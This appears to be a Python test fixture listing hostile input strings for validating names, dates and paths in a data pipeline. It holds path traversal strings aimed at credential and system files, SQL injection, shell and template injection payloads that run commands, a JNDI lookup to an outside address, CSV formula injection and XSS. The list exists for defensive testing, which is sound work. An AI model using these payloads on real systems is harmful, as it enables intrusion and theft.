"""Names that try to leave their folder, to become SQL, or to match another's; each is refused wherever a name is taken."""

PATHS = (
    "../../x", "..", ".", "/etc/passwd", "a/../b", "a/b/c", "..\\..\\x", "%2e%2e", "%2e%2e/x", "~root", "C:\\x", "a//b", "/", "./x",
    "x/.", "x/..", "\u2025/x", "\uff0e\uff0e/x", "file:///etc/passwd", "\\\\host\\share", "2013-10-01/..", "../2013-10-01",
    "2013-10-01/../../x", "2013-10-01%00", "2013-10-01.", "2013-10-01 ", " 2013-10-01", "2013-10-01\n", "2013-10-01\t", "\t",
)  # fmt: skip
STATEMENTS = (
    "'; drop table x; --", '"; drop table x; --', "') ; copy (select 1) to '/var/pwned'; --", "' or '1'='1", "2013-10-01' or 1=1 --",
    "2013-10-01'; attach '/var/pwned.db'; --", 'x"; install httpfs; load httpfs; --', "1; select 1", "/* */", "--", "'", '"', "`x`",
    "$(touch /var/pwned)", "`touch /var/pwned`", "| touch /var/pwned", "; touch /var/pwned", "&& touch /var/pwned", "${HOME}", "$HOME",
    "{{ 7 * 7 }}", "{% raw %}", "{0.__class__}", "%s", "%(x)s", "__import__('os').system('touch /var/pwned')",
)  # fmt: skip
PATTERNS = (
    "*",
    "?",
    "[ab]",
    "day=[ab]",
    "2013-10-*",
    "2013-10-0[12]",
    "{a,b}",
    "2013-10-??",
    "**",
    "**/*.parquet",
    "2013-1[0-1]-01",
    "+",
    "^",
)
DAYS = (
    "", "2013-1-1", "2013-13-01", "2013-02-30", "2013-00-10", "0000-01-01", "13-10-01", "20131001", "2013/10/01", "01.10.2013", "today",
    "2013-10-01T00:00:00", "2013-10-01+00:00", "-2013-10-01", "+2013-10-01", "2013-10-011", "12013-10-01", "２０１３-10-01", "2013–10–01",
    "2013-W40-2", "2013-274", "NaN", "null", "None", "true", "0", "-1", "1e400", "9999-99-99", "2013-10-01,2013-10-02",
    "2013-10-01...2013-10-02", "2013-10-01|2013-10-02", "١٩٩٩-٠١-٠١",
)  # fmt: skip
ODD = (
    "con", "NUL", "aux.parquet", "a" * 300, "a" * 65_000, "\x00", "a\x00b", "\x1b[31mred", "\u202egnp", "\u200b", "\ufeff", "\U0001f600", "é", "e\u0301",
    "\r\n", "a\rb", "-rf", "--help", "-", "=cmd|' /C calc'!A0", "@SUM(1)", "<script>alert(1)</script>", "&lt;", "\\", "\\u0000", "\\x00",
    "score_date=2013-10-01", "_delta_log", ".hidden", "__pycache__", "x.parquet#1", "x?version=0", "x;y", "x:y", "x,y", "x y",
)  # fmt: skip
MORE_PATHS = (
    "....//....//x", "..;/x", "%252e%252e%252fx", "..%2fx", "..%5cx", "%c0%ae%c0%ae/x", "/proc/self/environ", "/dev/null", "/dev/stdin",
    "//server/share", "\\\\?\\C:\\x", "x/../../../../var/pwned", "raw/../../x", "scores/../../../x", "models/../ledgers", "raw/orders/..",
    "~/.ssh/id_rsa", "$PWD/x", "http://192.0.2.1/x", "s3://bucket/x", "gs://bucket/x", "sqlite:////var/pwned.db", "md:x", "azure://x",
)  # fmt: skip
MORE_STATEMENTS = (
    "2013-10-01'; copy (select 1) to '/var/pwned'; --", "2013-10-01' union select 1 --", "x') or true --", "x'); install httpfs; --",
    "read_parquet('/etc/passwd')", "glob('/**')", "; pragma database_list", "set enable_external_access = true", "'||'a'||'", "\\'; select 1; --",
    "U&'\\0027'", "E'\\''", "$$x$$", "x::varchar", "(select version())", "case when true then 1 end", "{'a': 1}", "[1, 2]", "?", "$1",
    "`id`", "$(id)", "<(id)", ">/var/pwned", "!!python/object/apply:os.system ['touch /var/pwned']", "${jndi:ldap://192.0.2.1/a}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
)  # fmt: skip
MORE_DAYS = (
    "2013-10-01 00:00", "2013-10-01Z", "2013-10", "2013", "01-10-2013", "10/01/2013", "2013-1O-01", "2013\u201110\u201101", "2013-10-01\x00",
    "\ufeff2013-10-01", "2013-10-01\u200b", "\u202e10-01-3102", "2013-10-1", "02013-10-01", "2013-10--1", "2013--10-01", "infinity", "-infinity",
    "epoch", "now", "yesterday", "2013-366", "2013-02-29", "2100-02-29", "1582-10-10", "1969-12-31", "2013-10-01/P1D", "0b10", "0x7dd-10-01",
)  # fmt: skip
HOSTILE = tuple(dict.fromkeys((*MORE_PATHS, *MORE_STATEMENTS, *MORE_DAYS, *PATHS, *STATEMENTS, *PATTERNS, *DAYS, *ODD)))
